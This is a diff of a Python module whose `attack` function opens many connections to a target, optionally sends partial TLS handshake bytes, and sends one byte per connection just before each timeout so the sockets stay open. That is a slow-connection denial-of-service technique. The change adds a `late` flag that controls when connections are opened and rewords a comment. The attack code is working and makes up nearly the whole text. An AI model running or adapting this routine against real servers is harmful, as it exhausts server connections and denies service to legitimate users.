@@ -17,15 +17,26 @@ _HELLO_BEGINS = bytes.fromhex("1603010200 010001fc 0303".replace(" ", ""))
 
 
 def attack(
-    target: Target, connections: int, deadline: float, header: bool = False, share: float = 0.8
+    target: Target,
+    connections: int,
+    deadline: float,
+    header: bool = False,
+    late: bool = False,
+    share: float = 0.8,
 ) -> Iterator[tuple[int, int]]:
-    """Send a byte on each connection after each `share` of `deadline`, until all connections are cut."""
+    """Send a byte on each connection after each `share` of `deadline`, until all connections are cut.
+
+    `late` makes the connections when the attack begins, where the deadline would pass before it.
+    """
+    if late:
+        yield 0, 0
     socks = [target.connect() for _ in range(connections)]
     for sock in socks:
         sock.setblocking(False)
         if header:
             sock.sendall(_HELLO_BEGINS)
-    yield 0, 0
+    if not late:
+        yield 0, 0
     due = time.monotonic()
     while socks:
         for sock in tuple(socks):
@@ -39,7 +50,7 @@ def attack(
         due += share * deadline
         while time.monotonic() < due:
             time.sleep(0.01)
-            yield 0, 0  # whoever counts time may end it here
+            yield 0, 0  # an attack that is bounded by time may end here
 
 
 def _drop_reply(sock: object) -> None:
